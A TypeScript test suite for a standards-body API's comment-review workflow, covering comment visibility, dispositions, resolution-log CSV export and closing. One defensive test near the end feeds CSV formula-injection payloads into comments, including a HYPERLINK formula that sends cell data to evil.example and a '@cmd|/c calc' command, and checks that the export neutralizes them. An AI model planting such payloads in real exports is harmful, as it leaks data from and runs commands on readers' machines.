/**
 * Reviews of work in progress (issue 13): opening a call for comments, commenting with an
 * attachment and the IPR acknowledgement, who reads which comment, editing and withdrawing,
 * dispositions, the resolution log and its publication, closing, and a document whose visibility
 * narrows while its review is open.
 */
import { randomBytes, randomUUID } from 'node:crypto';
import { beforeAll, describe, expect, it } from 'vitest';
import { TestClient } from './client.js';
import { useApiWithDemoPeople } from './demo-actors.js';
import { uploadVersion } from './factories.js';
import { auditActions, sha256 } from './helpers.js';
import { reapOrphansNow, storeOrphan } from './orphan-objects.js';
import {
  type CommentBody,
  commented,
  daysFromToday,
  dispose,
  openedReview,
  openReview,
  type ReviewBody,
  sharedDocument,
} from './review-fixtures.js';
import { useApi } from './signed-in-api.js';
import { filePart, iprSha256 } from './submission-fixtures.js';

const demo = useApiWithDemoPeople();
const { as } = demo;
const anonymous = () => new TestClient(demo.api.url);

const getComment = (client: TestClient, id: string) =>
  client.json<CommentBody>('GET', `/api/v1/comments/${id}`);
const listComments = async (client: TestClient, reviewId: string, query = '') =>
  client.json<{ items: CommentBody[]; nextCursor: string | null }>(
    'GET',
    `/api/v1/reviews/${reviewId}/comments${query}`,
  );

describe('a call for comments on a DMTF work in progress shared with the OFA', () => {
  let document: { id: string; versionId: string; identifier: string };
  let review: ReviewBody;
  let ofaComment: CommentBody;
  let dmtfComment: CommentBody;
  const attachment = Buffer.from(`%PDF-1.7 marked-up spec ${'y'.repeat(3000)}`);

  beforeAll(async () => {
    document = await sharedDocument(as('editor@dmtf'));
    review = await openedReview(as('editor@dmtf'), document, {
      title: 'Call for comments on 0.1',
      note: 'Please comment on the zone model.',
    });
  });

  it('opens with its version, closing date and what the caller may do', async () => {
    expect(review).toMatchObject({
      document: { id: document.id, organization: 'dmtf', identifier: document.identifier },
      version: { id: document.versionId, label: '0.1' },
      title: 'Call for comments on 0.1',
      note: 'Please comment on the zone model.',
      closesOn: daysFromToday(30),
      state: 'open',
      closedAt: null,
      requiresIprAcknowledgement: false,
      logPublishedAt: null,
      counts: { comments: 0, resolved: 0 },
      createdBy: 'editor@dmtf.example',
      permissions: { comment: true, manage: true, dispose: true, readLog: true, publishLog: true },
    });
    expect(await auditActions(demo.api.pool, review.id)).toEqual(['review.open']);
    const seen = await as('member@ofa').json<ReviewBody>('GET', `/api/v1/reviews/${review.id}`);
    expect(seen.body.permissions).toEqual({
      comment: true,
      manage: false,
      dispose: false,
      readLog: false,
      publishLog: false,
    });
    expect((await as('member@snia').json('GET', `/api/v1/reviews/${review.id}`)).status).toBe(404);
    expect((await anonymous().json('GET', `/api/v1/reviews/${review.id}`)).status).toBe(404);
  });

  it('is listed on the document and among the reviews open to its readers', async () => {
    const listed = await as('member@ofa').json<{ items: ReviewBody[] }>(
      'GET',
      `/api/v1/documents/${document.id}/reviews`,
    );
    expect(listed.body.items.map((item) => item.id)).toEqual([review.id]);
    const open = await as('member@ofa').json<{ items: ReviewBody[] }>(
      'GET',
      '/api/v1/reviews?open=true',
    );
    expect(open.body.items.map((item) => item.id)).toContain(review.id);
    const snia = await as('member@snia').json<{ items: ReviewBody[] }>(
      'GET',
      '/api/v1/reviews?open=true',
    );
    expect(snia.body.items.map((item) => item.id)).not.toContain(review.id);
    expect((await anonymous().json('GET', '/api/v1/reviews?open=true')).status).toBe(401);
  });

  it('takes a comment with an attachment, for the commenter’s organization', async () => {
    ofaComment = await commented(as('member@ofa'), review, {}, [
      filePart('markup.pdf', attachment),
    ]);
    expect(ofaComment).toMatchObject({
      review: review.id,
      number: 1,
      version: { id: document.versionId, label: '0.1' },
      location: 'Section 4.2',
      kind: 'technical',
      author: 'member@ofa.example',
      organization: { slug: 'ofa', name: 'OpenFabrics Alliance' },
      withdrawn: false,
      disposition: null,
      attachment: {
        filename: 'markup.pdf',
        size: attachment.length,
        mediaType: 'application/pdf',
        sha256: sha256(attachment),
      },
      permissions: { edit: true, dispose: false },
    });
    dmtfComment = await commented(as('member@dmtf'), review, {
      kind: 'editorial',
      body: 'Typo in the title.',
      proposedChange: undefined,
    });
    expect(dmtfComment).toMatchObject({ number: 2, organization: { slug: 'dmtf' } });
    expect(await auditActions(demo.api.pool, ofaComment.id)).toEqual(['review.comment.create']);
  });

  it('keeps each comment to its author’s organization and the owner’s editors', async () => {
    // The OFA reads the OFA comment, not the DMTF member's; the DMTF editors read both.
    expect((await getComment(as('editor@ofa'), ofaComment.id)).body.author).toBe(
      'member@ofa.example',
    );
    expect((await getComment(as('member@ofa'), dmtfComment.id)).status).toBe(404);
    expect((await getComment(as('member@snia'), ofaComment.id)).status).toBe(404);
    expect((await getComment(anonymous(), ofaComment.id)).status).toBe(404);
    expect((await getComment(as('editor@dmtf'), ofaComment.id)).status).toBe(200);
    // The owner's plain members are commenters like any other: not the OFA's comment.
    expect((await getComment(as('member@dmtf'), ofaComment.id)).status).toBe(404);
    const ofa = await listComments(as('admin@ofa'), review.id);
    expect(ofa.body.items.map((item) => item.number)).toEqual([1]);
    const dmtf = await listComments(as('editor@dmtf'), review.id);
    expect(dmtf.body.items.map((item) => item.number)).toEqual([1, 2]);
    const counts = await as('member@ofa').json<ReviewBody>('GET', `/api/v1/reviews/${review.id}`);
    expect(counts.body.counts).toEqual({ comments: 1, resolved: 0 });
    expect((await listComments(as('member@snia'), review.id)).status).toBe(404);
  });

  it('serves the attachment to its readers, with ranges and ETags, audited', async () => {
    const path = `/api/v1/comments/${ofaComment.id}/attachment/content`;
    const whole = await as('editor@dmtf').fetch(path);
    expect(whole.status).toBe(200);
    expect(Buffer.from(await whole.arrayBuffer())).toEqual(attachment);
    const etag = whole.headers.get('etag')!;
    const part = await as('editor@dmtf').fetch(path, { headers: { range: 'bytes=0-8' } });
    expect(part.status).toBe(206);
    expect(await part.text()).toBe('%PDF-1.7 ');
    const cached = await as('editor@dmtf').fetch(path, { headers: { 'if-none-match': etag } });
    expect(cached.status).toBe(304);
    expect((await as('member@snia').fetch(path)).status).toBe(404);
    expect((await as('member@dmtf').fetch(path)).status).toBe(404);
    const downloads = (await auditActions(demo.api.pool, ofaComment.id)).filter(
      (action) => action === 'review.comment.attachment.download',
    );
    expect(downloads).toHaveLength(3);
  });

  it('lets the author edit the comment until it has a disposition', async () => {
    const edited = await as('member@ofa').json<CommentBody>(
      'PATCH',
      `/api/v1/comments/${ofaComment.id}`,
      { body: 'The zone model needs endpoint groups.', location: 'Section 4.2, table 7' },
    );
    expect(edited.status).toBe(200);
    expect(edited.body).toMatchObject({
      body: 'The zone model needs endpoint groups.',
      location: 'Section 4.2, table 7',
    });
    const other = await as('editor@ofa').json('PATCH', `/api/v1/comments/${ofaComment.id}`, {
      body: 'Not mine',
    });
    expect(other.status).toBe(403);
  });

  it('takes dispositions from the owner’s editors only, and tells the author', async () => {
    const byCommenter = await dispose(as('member@ofa'), ofaComment.id, {
      disposition: 'accepted',
      response: 'Self-accepted',
    });
    expect(byCommenter.status).toBe(403);
    const v2 = await uploadVersion(as('editor@dmtf'), document.id, '0.2');
    const answer = await dispose(as('editor@dmtf'), ofaComment.id, {
      disposition: 'accepted-with-changes',
      response: 'Added EndpointGroup, named differently.',
      resolvedInVersionId: v2,
    });
    expect(answer.status, JSON.stringify(answer.body)).toBe(200);
    expect(answer.body.disposition).toMatchObject({
      value: 'accepted-with-changes',
      response: 'Added EndpointGroup, named differently.',
      resolvedIn: { id: v2, label: '0.2' },
      duplicateOf: null,
      by: 'editor@dmtf.example',
    });
    const seen = await getComment(as('member@ofa'), ofaComment.id);
    expect(seen.body.disposition?.value).toBe('accepted-with-changes');
    expect(seen.body.permissions).toEqual({ edit: false, dispose: false });
    const { rows } = await demo.api.pool.query<{ recipient: string; text: string }>(
      `select recipient, text_body as text from mail_outbox where kind = 'review.comment.disposed'`,
    );
    expect(rows).toEqual([
      {
        recipient: 'member@ofa.example',
        text: expect.stringContaining('accepted-with-changes'),
      },
    ]);
    const late = await as('member@ofa').json<{ error: { code: string } }>(
      'PATCH',
      `/api/v1/comments/${ofaComment.id}`,
      { body: 'Changed my mind' },
    );
    expect(late.status).toBe(409);
    expect(late.body.error.code).toBe('comment_resolved');
    const withdraw = await as('member@ofa').json<{ error: { code: string } }>(
      'POST',
      `/api/v1/comments/${ofaComment.id}/withdraw`,
    );
    expect(withdraw.body.error.code).toBe('comment_resolved');
  });

  it('marks duplicates of another comment of the same review', async () => {
    const third = await commented(as('editor@ofa'), review, { body: 'Endpoint groups, please.' });
    const duplicate = await dispose(as('admin@dmtf'), third.id, {
      disposition: 'duplicate',
      response: 'Same as comment 1.',
      duplicateOf: ofaComment.id,
    });
    expect(duplicate.status).toBe(200);
    expect(duplicate.body.disposition).toMatchObject({
      value: 'duplicate',
      duplicateOf: ofaComment.id,
    });
  });

  it('lets the author withdraw a comment without a disposition: listed, not counted', async () => {
    const fourth = await commented(as('member@ofa'), review, { body: 'Never mind this one.' });
    const withdrawn = await as('member@ofa').json<CommentBody>(
      'POST',
      `/api/v1/comments/${fourth.id}/withdraw`,
    );
    expect(withdrawn.status).toBe(200);
    expect(withdrawn.body.withdrawn).toBe(true);
    const again = await as('member@ofa').json<{ error: { code: string } }>(
      'POST',
      `/api/v1/comments/${fourth.id}/withdraw`,
    );
    expect(again.status).toBe(409);
    const owner = await as('editor@dmtf').json<ReviewBody>('GET', `/api/v1/reviews/${review.id}`);
    expect(owner.body.counts).toEqual({ comments: 3, resolved: 2 });
  });

  it('filters comments by kind and disposition', async () => {
    const technical = await listComments(as('editor@dmtf'), review.id, '?kind=technical');
    expect(technical.body.items.map((item) => item.number)).toEqual([1, 3, 4]);
    const open = await listComments(as('editor@dmtf'), review.id, '?disposition=none');
    expect(open.body.items.map((item) => item.number)).toEqual([2, 4]);
    const paged = await listComments(as('editor@dmtf'), review.id, '?limit=2');
    expect(paged.body.items.map((item) => item.number)).toEqual([1, 2]);
    const next = await listComments(
      as('editor@dmtf'),
      review.id,
      `?limit=2&cursor=${paged.body.nextCursor}`,
    );
    expect(next.body.items.map((item) => item.number)).toEqual([3, 4]);
    expect(next.body.nextCursor).toBeNull();
  });

  it('keeps the resolution log to the owner’s editors until it is published', async () => {
    const path = `/api/v1/reviews/${review.id}/log`;
    expect((await as('member@ofa').json('GET', path)).status).toBe(404);
    expect((await as('member@dmtf').json('GET', path)).status).toBe(404);
    const log = await as('editor@dmtf').json<{
      counts: { total: number; resolved: number; byDisposition: Record<string, number> };
      comments: CommentBody[];
    }>('GET', path);
    expect(log.status).toBe(200);
    expect(log.body.counts).toEqual({
      total: 3,
      resolved: 2,
      byDisposition: {
        none: 1,
        accepted: 0,
        'accepted-with-changes': 1,
        rejected: 0,
        deferred: 0,
        duplicate: 1,
      },
    });
    expect(log.body.comments.map((comment) => comment.author)).toEqual([
      'member@ofa.example',
      'member@dmtf.example',
      'editor@ofa.example',
      'member@ofa.example',
    ]);
    const csv = await as('editor@dmtf').fetch(`${path}?format=csv&kind=technical`);
    expect(csv.status).toBe(200);
    expect(csv.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(csv.headers.get('content-disposition')).toContain(
      `${document.identifier}_0.1_comments.csv`,
    );
    const bytes = Buffer.from(await csv.arrayBuffer());
    // A byte-order mark first, so spreadsheets read the file as UTF-8.
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const lines = bytes.subarray(3).toString('utf8').split('\r\n');
    expect(lines[0]).toBe(
      'Number,Kind,Location,Version,Organization,Author,Comment,Proposed change,Disposition,Response,Resolved in,Duplicate of,Withdrawn,Submitted at',
    );
    expect(lines.slice(1, -1).map((line) => line.split(',')[0])).toEqual(['1', '3', '4']);
    expect(lines[2]).toContain(',duplicate,Same as comment 1.,,1,false,');
  });

  it('is published to every reader of the document, attributed to organizations only', async () => {
    const published = await as('editor@dmtf').json<ReviewBody>(
      'POST',
      `/api/v1/reviews/${review.id}/log/publish`,
    );
    expect(published.status).toBe(200);
    expect(published.body.logPublishedAt).not.toBeNull();
    expect(published.body.permissions.publishLog).toBe(false);
    const again = await as('editor@dmtf').json<{ error: { code: string } }>(
      'POST',
      `/api/v1/reviews/${review.id}/log/publish`,
    );
    expect(again.status).toBe(409);
    const log = await as('member@ofa').json<{ comments: CommentBody[] }>(
      'GET',
      `/api/v1/reviews/${review.id}/log`,
    );
    expect(log.status).toBe(200);
    // The DMTF member's comment: now readable to the OFA, by organization, never by person.
    const dmtf = log.body.comments.find((comment) => comment.number === 2)!;
    expect(dmtf).toMatchObject({
      author: null,
      organization: { name: 'Distributed Management Task Force' },
    });
    const csv = await (
      await as('member@ofa').fetch(`/api/v1/reviews/${review.id}/log?format=csv`)
    ).text();
    expect(csv).not.toContain('member@dmtf.example');
    expect(csv).not.toContain('editor@dmtf.example');
    expect((await as('member@snia').json('GET', `/api/v1/reviews/${review.id}/log`)).status).toBe(
      404,
    );
    expect(await auditActions(demo.api.pool, review.id)).toEqual([
      'review.open',
      'review.log.publish',
    ]);
  });

  it('closes early: no new comments, no more changes to the review', async () => {
    const closed = await as('admin@dmtf').json<ReviewBody>(
      'POST',
      `/api/v1/reviews/${review.id}/close`,
    );
    expect(closed.status).toBe(200);
    expect(closed.body).toMatchObject({
      state: 'closed',
      permissions: { comment: false, manage: false },
    });
    expect(closed.body.closedAt).not.toBeNull();
    const extend = await as('editor@dmtf').json<{ error: { code: string } }>(
      'PATCH',
      `/api/v1/reviews/${review.id}`,
      { closesOn: daysFromToday(60) },
    );
    expect(extend.status).toBe(409);
    expect(extend.body.error.code).toBe('review_closed');
    // Dispositions go on after the close.
    const disposed = await dispose(as('editor@dmtf'), dmtfComment.id, {
      disposition: 'accepted',
      response: 'Fixed.',
    });
    expect(disposed.status).toBe(200);
    // And a new review of the document may open now.
    await openedReview(as('editor@dmtf'), document, { closesOn: daysFromToday(10) });
  });
});

describe('two reviews of one document opened at the same moment', () => {
  it('cannot both open', async () => {
    const document = await sharedDocument(as('editor@dmtf'));
    const body = { versionId: document.versionId, title: 'Race', closesOn: daysFromToday(9) };
    const answers = await Promise.all([
      openReview(as('editor@dmtf'), document.id, body),
      openReview(as('admin@dmtf'), document.id, body),
    ]);
    expect(answers.map((answer) => answer.status).sort()).toEqual([201, 409]);
    const { rows } = await demo.api.pool.query('select 1 from reviews where document_id = $1', [
      document.id,
    ]);
    expect(rows).toHaveLength(1);
  });
});

describe('a review past its closing date', () => {
  it('is closed without a close, and lets a new review open', async () => {
    const document = await sharedDocument(as('editor@dmtf'));
    const review = await openedReview(as('editor@dmtf'), document, { closesOn: daysFromToday(0) });
    expect(review.state).toBe('open');
    // The calendar moves on: the review opened two days ago and closed yesterday.
    await demo.api.pool.query(
      `update reviews set opened_on = current_date - 2, closes_on = current_date - 1 where id = $1`,
      [review.id],
    );
    const seen = await as('member@ofa').json<ReviewBody>('GET', `/api/v1/reviews/${review.id}`);
    expect(seen.body).toMatchObject({
      state: 'closed',
      closedAt: null,
      permissions: { comment: false },
    });
    const open = await as('member@ofa').json<{ items: ReviewBody[] }>(
      'GET',
      '/api/v1/reviews?open=true',
    );
    expect(open.body.items.map((item) => item.id)).not.toContain(review.id);
    await openedReview(as('editor@dmtf'), document);
  });
});

describe('the reviews open to me', () => {
  it('come closing soonest first, page by page', async () => {
    const client = await TestClient.signIn(demo.api.url, 'admin@ofa.example');
    const before = await client.json<{ items: ReviewBody[] }>(
      'GET',
      '/api/v1/reviews?open=true&limit=100',
    );
    const soon = await openedReview(as('editor@dmtf'), await sharedDocument(as('editor@dmtf')), {
      closesOn: daysFromToday(1),
    });
    const later = await openedReview(as('editor@dmtf'), await sharedDocument(as('editor@dmtf')), {
      closesOn: daysFromToday(90),
    });
    const all = await client.json<{ items: ReviewBody[] }>(
      'GET',
      '/api/v1/reviews?open=true&limit=100',
    );
    const ids = all.body.items.map((item) => item.id);
    expect(ids).toHaveLength(before.body.items.length + 2);
    expect(ids[0]).toBe(soon.id);
    expect(ids[ids.length - 1]).toBe(later.id);
    const dates = all.body.items.map((item) => item.closesOn);
    expect([...dates].sort()).toEqual(dates);
    const first = await client.json<{ items: ReviewBody[]; nextCursor: string }>(
      'GET',
      '/api/v1/reviews?open=true&limit=1',
    );
    const second = await client.json<{ items: ReviewBody[] }>(
      'GET',
      `/api/v1/reviews?open=true&limit=100&cursor=${first.body.nextCursor}`,
    );
    expect([...first.body.items, ...second.body.items].map((item) => item.id)).toEqual(ids);
  });
});

describe('a review requiring the IPR acknowledgement', () => {
  it('records who acknowledged which text, when', async () => {
    const document = await sharedDocument(as('editor@dmtf'));
    const review = await openedReview(as('editor@dmtf'), document, {
      requireIprAcknowledgement: true,
    });
    expect(review.requiresIprAcknowledgement).toBe(true);
    const sha = await iprSha256(as('member@ofa'), 'dmtf');
    const comment = await commented(as('member@ofa'), review, {
      acceptIpr: 'true',
      iprPolicySha256: sha,
    });
    const { rows } = await demo.api.pool.query(
      `select u.email, c.ipr_policy_sha256 as sha, c.ipr_acknowledged_at is not null as dated
         from review_comments c join users u on u.id = c.ipr_acknowledged_by where c.id = $1`,
      [comment.id],
    );
    expect(rows).toEqual([{ email: 'member@ofa.example', sha, dated: true }]);
  });
});

describe('a document whose visibility narrows while its review is open', () => {
  it('takes the comments away from the organizations that can no longer read it, deleting nothing', async () => {
    const document = await sharedDocument(as('editor@dmtf'));
    const review = await openedReview(as('editor@dmtf'), document);
    const comment = await commented(as('member@ofa'), review);
    const narrowed = await as('editor@dmtf').json('PATCH', `/api/v1/documents/${document.id}`, {
      visibility: 'organization',
    });
    expect(narrowed.status).toBe(200);
    // The OFA, its author included, reads neither the review nor the comment any more.
    for (const name of ['member@ofa', 'admin@ofa']) {
      expect((await getComment(as(name), comment.id)).status).toBe(404);
      expect((await listComments(as(name), review.id)).status).toBe(404);
      expect((await as(name).json('GET', `/api/v1/reviews/${review.id}`)).status).toBe(404);
      const open = await as(name).json<{ items: ReviewBody[] }>('GET', '/api/v1/reviews?open=true');
      expect(open.body.items.map((item) => item.id)).not.toContain(review.id);
    }
    const { rows } = await demo.api.pool.query('select 1 from review_comments where id = $1', [
      comment.id,
    ]);
    expect(rows).toHaveLength(1);
    // The owner's editors still read it.
    expect((await getComment(as('editor@dmtf'), comment.id)).status).toBe(200);
    // Shared again, the comment is the OFA's again.
    await as('editor@dmtf').json('PATCH', `/api/v1/documents/${document.id}`, {
      visibility: 'partners',
    });
    expect((await getComment(as('member@ofa'), comment.id)).status).toBe(200);
  });
});

describe('the resolution log as CSV', () => {
  it('neutralizes cells a spreadsheet would run as formulas', async () => {
    const document = await sharedDocument(as('editor@dmtf'));
    const review = await openedReview(as('editor@dmtf'), document);
    const comment = await commented(as('member@ofa'), review, {
      location: '+SUM(A1:A9)',
      body: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
      proposedChange: '@cmd|/c calc',
    });
    await dispose(as('editor@dmtf'), comment.id, { disposition: 'rejected', response: '-2+3' });
    const csv = await (
      await as('editor@dmtf').fetch(`/api/v1/reviews/${review.id}/log?format=csv`)
    ).text();
    const row = csv.split('\r\n')[1]!;
    expect(row).toContain(`,'+SUM(A1:A9),`);
    expect(row).toContain(`,"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",`);
    expect(row).toContain(`,'@cmd|/c calc,`);
    expect(row).toContain(`,rejected,'-2+3,`);
    expect(row).not.toMatch(/,[=+@-]/);
  });
});

describe('the reaper', () => {
  const own = useApi({ S3_BUCKET: `reviews-reaper-${randomBytes(6).toString('hex')}` });

  it('keeps comment attachments and deletes unreferenced objects under review-comments/', async () => {
    const editor = await TestClient.signIn(own.api.url, 'editor@dmtf.example');
    const member = await TestClient.signIn(own.api.url, 'member@ofa.example');
    const review = await openedReview(editor, await sharedDocument(editor));
    const comment = await commented(member, review, {}, [filePart('markup.pdf')]);
    const orphan = `review-comments/${review.id}/${randomUUID()}`;
    await storeOrphan(own.api, orphan);
    const summary = await reapOrphansNow(own.api);
    expect(summary.deleted).toEqual([orphan]);
    const content = await editor.fetch(`/api/v1/comments/${comment.id}/attachment/content`);
    expect(content.status).toBe(200);
  });
});
